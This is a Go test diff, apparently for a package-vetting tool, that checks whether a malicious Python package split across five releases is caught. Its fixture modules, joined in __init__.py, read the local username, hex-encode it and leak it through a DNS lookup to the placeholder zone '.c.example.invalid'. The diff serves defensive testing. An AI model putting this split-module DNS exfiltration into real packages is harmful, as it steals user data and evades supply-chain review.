@@ -106,6 +106,40 @@ func TestOnePayloadInFiveSteps(t *testing.T) {
 	}
 }
 
+// TestOnePayloadInFiveModules: no value is seen to travel from one module to the next,
+// and no version before the last one both collected and sent. The version after it
+// is compared with what was admitted, not with what was held.
+func TestOnePayloadInFiveModules(t *testing.T) {
+	w := judging(t)
+	files := map[string]string{"demo/__init__.py": harmless}
+	next := func(number int, more map[string]string) string {
+		v := fmt.Sprint("demo 1.", number)
+		maps.Copy(files, more)
+		w.pass(40 * day)
+		w.releases(v)
+		w.holds(v, files)
+		return w.admits(v)
+	}
+	for n, module := range []string{
+		"ZONE = '.c.example.invalid'\n",
+		"import getpass\n\ndef facts():\n    return [getpass.getuser()]\n",
+		"def text(parts):\n    return '|'.join(parts).encode().hex()\n",
+		"import socket\n\ndef ask(words):\n    for w in words:\n        socket.gethostbyname(w)\n",
+	} {
+		want(t, fmt.Sprint("step ", n), next(n, map[string]string{fmt.Sprintf("demo/_part%d.py", n): module}), "admit")
+	}
+	joined := "from . import _part0, _part1, _part2, _part3\nasks = vars(_part3)['ask']\nasks([_part2.text(_part1.facts()) + _part0.ZONE])\n_part3.ask([_part0.ZONE])\n"
+	if got := next(4, map[string]string{"demo/__init__.py": joined}); strings.HasPrefix(got, "admit") {
+		t.Errorf("the version that joins the parts: %s", got)
+	}
+	if got := next(5, nil); strings.HasPrefix(got, "admit") {
+		t.Errorf("the version after it: %s", got)
+	}
+	w.approve("demo 1.5")
+	want(t, "approved by a person", w.admits("demo 1.5"), "admit")
+	want(t, "what that person saw is no beginning any more", next(6, nil), "admit")
+}
+
 // TestTheSameBytesInAnotherRole: read, they are a text; imported, they are judged as
 // the code that they are, whoever admitted the text.
 func TestTheSameBytesInAnotherRole(t *testing.T) {
